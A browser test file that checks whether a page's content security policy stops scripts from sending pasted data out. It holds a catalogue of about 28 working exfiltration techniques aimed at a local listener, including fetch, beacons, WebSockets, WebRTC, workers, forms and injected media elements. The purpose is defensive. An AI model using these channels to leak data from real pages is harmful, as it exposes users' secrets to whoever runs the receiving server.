// Nothing leaves: whatever code got into the page, the policy stops it from sending what was pasted.
// (A policy cannot stop a page from sending the whole window elsewhere, nor from calling another browser out of an
// empty frame; the page itself does neither, and takes the means of calling away from its own window.)

import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { BROWSERS, SINGLE_FILE, SITE_FOLDER, launch, open } from "./page.mjs";
import { listener, serveFolder, serveHtml } from "./servers.mjs";

/** Runs in the page: tries to reach the listener in every way that a script has. Never throws. */
async function attempts(port) {
    const to = (way) => `http://127.0.0.1:${port}/${way}`;
    const element = (tag, properties, home = document.body) => home.append(Object.assign(document.createElement(tag), properties));
    const form = (properties) => {
        const made = Object.assign(document.createElement("form"), { method: "post", ...properties });
        const frame = Object.assign(document.createElement("iframe"), { name: `frame-${properties.id}` });
        made.target = frame.name;
        document.body.append(frame, made);
        made.submit();
    };
    const inWorker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    const ways = {
        fetch: () => fetch(to("fetch"), { method: "POST", body: "secret", mode: "no-cors" }),
        xhr: () => {
            const request = new XMLHttpRequest();
            request.open("POST", to("xhr"));
            request.send("secret");
        },
        beacon: () => navigator.sendBeacon(to("beacon"), "secret"),
        image: () => (new Image().src = to("image")),
        form: () => form({ id: "form", action: to("form") }),
        websocket: () => new WebSocket(`ws://127.0.0.1:${port}/websocket`),
        eventsource: () => new EventSource(to("eventsource")),
        stylesheet: () => element("link", { rel: "stylesheet", href: to("stylesheet") }, document.head),
        script: () => element("script", { src: to("script") }),
        frame: () => element("iframe", { src: to("frame") }),
        object: () => element("object", { data: to("object") }),
        video: () => element("video", { src: to("video"), preload: "auto" }),
        font: () => new FontFace("leak", `url(${to("font")})`).load(),
        import: () => import(to("import")),
        audio: () => new Audio(to("audio")).load(),
        embed: () => element("embed", { src: to("embed") }),
        "style-image": () => (document.body.style.backgroundImage = `url(${to("style-image")})`),
        "svg-image": () => {
            const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
            image.setAttribute("href", to("svg-image"));
            document.body.append(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
            document.body.lastChild.append(image);
        },
        preload: () => element("link", { rel: "preload", as: "image", href: to("preload") }, document.head),
        icon: () => element("link", { rel: "icon", href: to("icon") }, document.head),
        webrtc: async () => {
            const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
            call.createDataChannel("leak");
            await call.setLocalDescription(await call.createOffer());
        },
        ping: () => {
            const link = Object.assign(document.createElement("a"), { href: "#", ping: to("ping") });
            document.body.append(link);
            link.click();
        },
        worker: () => inWorker(`fetch("${to("worker")}", { method: "POST", body: "secret", mode: "no-cors" })`),
        "worker-xhr": () => inWorker(`const r = new XMLHttpRequest(); r.open("POST", "${to("worker-xhr")}"); r.send("secret")`),
        "worker-script": () => inWorker(`importScripts("${to("worker-script")}")`),
        "worker-websocket": () => inWorker(`new WebSocket("ws://127.0.0.1:${port}/worker-websocket")`),
    };
    for (const attempt of Object.values(ways)) {
        try {
            Promise.resolve(attempt()).catch(() => {});
        } catch {
            // Stopped at once.
        }
    }
    await new Promise((later) => setTimeout(later, 3000));
    return Object.keys(ways);
}

const way = (arrival) => arrival.split("/")[1];

for (const kind of BROWSERS) {
    describe(kind.name, { skip: kind.skip }, () => {
        test("from a page without a policy, the attempts arrive", async () => {
            const [catcher, server, browser] = [await listener(), await serveHtml("<!doctype html><body>"), await launch(kind)];
            try {
                const page = await browser.newPage();
                await page.goto(server.url);
                const tried = await page.evaluate(attempts, catcher.port);
                const arrived = new Set(catcher.arrived.map(way));
                assert.deepEqual(tried.filter((name) => !arrived.has(name) && !quiet(kind, name)), [], "these did not arrive: they prove nothing below");
            } finally {
                await browser.close();
                await server.close();
                await catcher.close();
            }
        });

        for (const where of ["single file", "site"]) {
            test(`from the ${where}, none of them arrives`, async () => {
                const [catcher, server, browser] = [await listener(), await serveFolder(SITE_FOLDER, "/duibiao/"), await launch(kind)];
                try {
                    const { page } = await open(browser, where === "site" ? server.url : SINGLE_FILE);
                    await page.evaluate(attempts, catcher.port);
                    assert.deepEqual(catcher.arrived, []);
                } finally {
                    await browser.close();
                    await server.close();
                    await catcher.close();
                }
            });
        }
    });
}

/** Ways that this browser does not have even without a policy. */
function quiet(kind, name) {
    // Firefox sends no pings of links unless asked to, and asks no STUN server on this machine.
    return kind.kind === "firefox" && (name === "ping" || name === "webrtc");
}
